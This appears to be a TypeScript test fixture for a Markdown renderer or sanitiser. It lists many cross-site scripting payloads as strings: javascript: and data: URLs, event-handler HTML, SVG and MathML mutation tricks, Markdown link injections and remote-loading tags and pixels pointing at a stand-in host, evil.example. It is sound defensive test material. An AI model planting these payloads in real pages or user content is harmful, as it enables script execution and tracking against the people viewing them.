/** What people have tried to get past Markdown renderers and sanitisers, in kinds. All of it must come out harmless. */
const SCRIPT_URLS = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript\t:alert(1)", "java\nscript:alert(1)", "&#106;avascript:alert(1)",
  "javascript&colon;alert(1)", "javascript&#58;alert(1)", "%6aavascript:alert(1)", "\u0001javascript:alert(1)", " javascript:alert(1)",
  "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>", "data:application/xhtml+xml,<script/>", "blob:https://x/1", "file:///etc/passwd",
  "filesystem:https://x/t", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:https://x!/", "about:blank#x",
  "intent://x#Intent;end", "ms-settings:x", "tauri://localhost/x", "ipc://localhost/x", "asset://localhost/etc/passwd",
  "javascript://example.com/%0aalert(1)", "javascript:/*--></title>*/alert(1)", "ftp://x.example/a", "//evil.example/x", "/relative", "\\\\evil\\share",
  "https:javascript:alert(1)", "http:\\\\evil.example", "https://", "mailto:", "https://\u202eevil.example", "ws://evil.example", "steam://run/1",
];

const HTML = [
  "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<img src=\"https://evil.example/p.png\">",
  "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", "<svg><image href=https://evil.example/i.png></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=\"javascript:alert(1)\">x</math>",
  "<math><maction actiontype=\"statusline#http://evil\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
  "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
  "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<video src=x onerror=alert(1)>",
  "<video poster=https://evil.example/p.png>", "<audio src=https://evil.example/a.mp3 autoplay>", "<source src=https://evil.example/x>",
  "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=preload href=https://evil.example/x as=image>", "<link rel=dns-prefetch href=//evil.example>",
  "<style>@import 'https://evil.example/x.css';</style>", "<style>body{background:url(https://evil.example/b)}</style>",
  "<div style=\"background:url(https://evil.example/b)\">x</div>", "<p style=\"position:fixed;inset:0\">x</p>", "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<body onload=alert(1)>", "<html manifest=https://evil.example/>",
  "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=\"https://x\" onclick=alert(1)>x</a>",
  "<a ping=https://evil.example href=https://x>x</a>", "<area href=javascript:alert(1)>", "<isindex action=javascript:alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<template><script>alert(1)</script></template>", "<title><img src=x onerror=alert(1)></title>", "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>", "<table background=https://evil.example/x><tr><td>", "<input type=image src=https://evil.example/x>",
  "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "<!DOCTYPE html [<!ENTITY x 'y'>]>",
  "<img srcset=\"https://evil.example/a 1x\">", "<picture><source srcset=https://evil.example/a></picture>", "<img src=x:x onerror=alert(1)//", "<img\u0000src=x onerror=alert(1)>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<a id=location><a id=location name=href>", "<form id=document><input name=cookie>",
  "<x onclick=alert(1)>", "<custom-element onconnected=alert(1)>", "<portal src=https://evil.example>", "<dialog open onclose=alert(1)>", "<slot onslotchange=alert(1)>",
  "\u003cimg src=x onerror=alert(1)\u003e", "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
];

const MARKDOWN = [
  "[x](javascript:alert`1`)", "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1))", "[x][r]\n\n[r]: javascript:alert(1)", "[x]: https://a.example \"onmouseover=alert(1)\"\n\n[x]",
  "[x](https://a.example \"' onmouseover='alert(1)\")", "[x](https://a.example/\"onmouseover=\"alert(1))", "[x](https://a.example/'onclick='alert(1))",
  "![x](javascript:alert(1))", "![x](https://evil.example/pixel.png)", "![x](//evil.example/pixel.png)", "![\"onerror=alert(1)](https://evil.example/p.png)",
  "![x](https://evil.example/p.png \"onload=alert(1)\")", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "[![x](https://evil.example/p.png)](javascript:alert(1))",
  "<javascript:alert(1)>", "<https://evil.example/\"onclick=alert(1)>", "https://evil.example/\"><script>alert(1)</script>",
  "```html\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```", "```js\" onclick=\"alert(1)\nx\n```", "``` <img src=x onerror=alert(1)>\nx\n```",
  "`<img src=x onerror=alert(1)>`", "    <script>alert(1)</script>", "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>", "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "# <svg onload=alert(1)>", "**<img src=x onerror=alert(1)>**", "- [x] <script>alert(1)</script>", "[<img src=x onerror=alert(1)>](https://a.example)", "\\<script>alert(1)\\</script>",
  "[a](https://a.example)<img src=x onerror=alert(1)>", "<a href=\"[x](javascript:alert(1))\">", "[x](data:text/html,<script>alert(1)</script>)", "[x](\u0000javascript:alert(1))",
  "a<b onmouseover=alert(1)>c", "~~<script>alert(1)</script>~~", "[x](https://a.example){onclick=alert(1)}", "$\\href{javascript:alert(1)}{x}$",
  "```mermaid\ngraph TD; A-->B; click A href \"javascript:alert(1)\"\n```", "[^1]\n\n[^1]: <script>alert(1)</script>", "<details><summary>x</summary>\n\n<script>alert(1)</script>\n\n</details>",
];

export const PAYLOADS: readonly string[] = [
  ...SCRIPT_URLS.flatMap((url) => [`[x](${url})`, `![x](${url})`, `<${url}>`]),
  ...SCRIPT_URLS.map((url) => `[x][r]\n\n[r]: <${url}>`),
  ...HTML,
  ...HTML.map((html) => `para ${html}\n\n- ${html}\n`),
  ...MARKDOWN,
];
